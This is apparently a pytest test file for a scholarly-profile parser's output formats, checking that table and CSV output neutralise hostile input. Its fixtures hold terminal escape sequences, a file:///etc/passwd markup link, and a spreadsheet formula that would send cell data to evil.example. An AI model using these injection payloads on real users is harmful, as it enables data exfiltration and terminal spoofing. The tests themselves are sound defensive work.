"""Each output format alone, and what a dump cannot do to the terminal."""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

import scholarparse
from scholarparse.formats import renderer
from tests.conftest import AS_OF, PROFILE_SEED, ROOT, golden_cases
from tests.strategies import documents

HOSTILE = (
    "Mallory\n\nh-index1\n\n"
    "CLMay 2, 2024\nClear \x1b[2J screen [red]x[/red] [bold]\u202egnp.exe\n\n"
    "Eve Evans · [link=file:///etc/passwd]x[/link]\n\nText \x07 with a bell.\n"
)


def render(documents: list[dict[str, Any]], name: str, *, single: bool = True) -> str:
    stream = io.StringIO()
    renderer(name)(documents, stream, single=single)
    return stream.getvalue()


def parsed(text: str) -> dict[str, Any]:
    return scholarparse.parse_text(text, source="hostile.txt", as_of=AS_OF).to_dict()


def test_unknown_format() -> None:
    with pytest.raises(ValueError):
        renderer("xml")


@pytest.mark.parametrize("case", golden_cases(), ids=lambda case: f"{case.parent.name}/{case.stem}")
def test_json_and_yaml_round_trip_every_fixture(case: Any) -> None:
    document = scholarparse.parse_file(case, as_of=AS_OF).to_dict()
    assert json.loads(render([document], "json")) == document
    assert yaml.safe_load(render([document], "yaml")) == document
    assert json.loads(render([document], "jsonl")) == document


def test_json_list_for_several_documents() -> None:
    documents = [parsed(HOSTILE), parsed(HOSTILE)]
    assert json.loads(render(documents, "json", single=False)) == documents
    assert yaml.safe_load(render(documents, "yaml", single=False)) == documents


def test_table_shows_dump_text_literally_and_harmlessly(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "160")
    out = render([parsed(HOSTILE)], "table")
    assert "\x1b" not in out
    assert "\x07" not in out
    assert "\u202e" not in out
    assert "\\x1b[2J" in out
    assert "[red]x[/red]" in out
    assert "[bold]" in out
    assert "\\u202egnp.exe" in out


@pytest.mark.parametrize("columns", ["30", "40", "59"])
def test_a_narrow_table_still_shows_every_title(
    monkeypatch: pytest.MonkeyPatch, columns: str
) -> None:
    """Below 60 columns the table's fixed columns left titles no room (1 to 9 letters a line,
    or none): each paper is a block of its own there."""
    monkeypatch.setenv("COLUMNS", columns)
    out = render([scholarparse.parse_file(PROFILE_SEED, as_of=AS_OF).to_dict()], "table")
    assert max(len(line) for line in out.splitlines()) <= int(columns)
    flowed = " ".join(" ".join(out.split()).split())
    assert "Uncovering mesa-optimization algorithms in Transformers" in flowed
    assert "#2  2023-09-11  LG" in out


def test_csv_profile_without_papers_still_has_its_row() -> None:
    document = parsed("Ada Lovelace\n\nh-index3\n\n0 Papers\n")
    rows = list(csv.DictReader(io.StringIO(render([document], "csv"))))
    assert len(rows) == 1
    assert (rows[0]["name"], rows[0]["h_index"], rows[0]["title"]) == ("Ada Lovelace", "3", "")


def test_csv_abstracts() -> None:
    document = scholarparse.parse_text("Abstract: one\nAbstract: two", source="a.txt").to_dict()
    rows = list(csv.reader(io.StringIO(render([document], "csv"))))
    assert rows == [
        ["source", "index", "line", "text"],
        ["a.txt", "1", "1", "one"],
        ["a.txt", "2", "2", "two"],
    ]


def test_csv_cells_that_a_spreadsheet_would_run_are_kept_as_text() -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    document = parsed(
        f"-Mallory\n\nh-index1\n\nCLMay 2, 2024\n{formula}\n\n"
        "@Eve Evans · +mit\n\nText.\n"  # not a name: '@' is no letter, so this is abstract text
    )
    rows = list(csv.DictReader(io.StringIO(render([document], "csv"))))
    assert rows[0]["title"] == "'" + formula
    assert rows[0]["name"] == "'-Mallory"
    assert rows[0]["abstract"].startswith("'@Eve Evans · +mit")
    assert rows[0]["h_index"] == "1"  # numbers are never changed
    assert document["papers"][0]["title"] == formula  # only the CSV cell is guarded


@pytest.mark.parametrize("cell", ["=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_every_formula_start_is_neutralised(cell: str) -> None:
    from scholarparse.formats.csv_format import _cell

    assert _cell(cell) == "'" + cell
    assert _cell([cell, "b"]) == "'" + cell + "; b"
    assert _cell("a" + cell) == "a" + cell


@given(documents())
def test_libyaml_and_pyyaml_write_the_same_text(document: dict[str, Any]) -> None:
    options = {"allow_unicode": True, "sort_keys": False, "width": 100}
    in_c = yaml.dump(document, Dumper=yaml.CSafeDumper, **options)
    assert in_c == yaml.dump(document, Dumper=yaml.SafeDumper, **options)


@given(documents(), st.sampled_from([None, 1e-5, 0.25, 3, 1e-4, 99.5]))
def test_orjson_writes_the_bytes_the_standard_library_does(
    document: dict[str, Any], score: float | None
) -> None:
    from scholarparse.formats.fast_json import compact, indented

    for paper in document.get("papers", [])[:1]:
        paper["score"] = score
    assert compact(document) == json.dumps(
        document, ensure_ascii=False, separators=(",", ":")
    ).encode("utf-8")
    assert indented(document, [document]) == json.dumps(
        document, ensure_ascii=False, indent=2
    ).encode("utf-8")


def test_yaml_is_only_ever_written_and_read_safely() -> None:
    """No unsafe loader or dumper anywhere in the package."""
    source = "\n".join(path.read_text("utf-8") for path in (ROOT / "scholarparse").rglob("*.py"))
    assert re.findall(r"yaml\.(?:load|full_load|unsafe_load|load_all)\(", source) == []
    assert re.findall(r"Dumper=(?!dumper\b)", source) == []
    assert re.findall(r"yaml\.(?:Dumper|Loader|UnsafeLoader|FullLoader)\b", source) == []
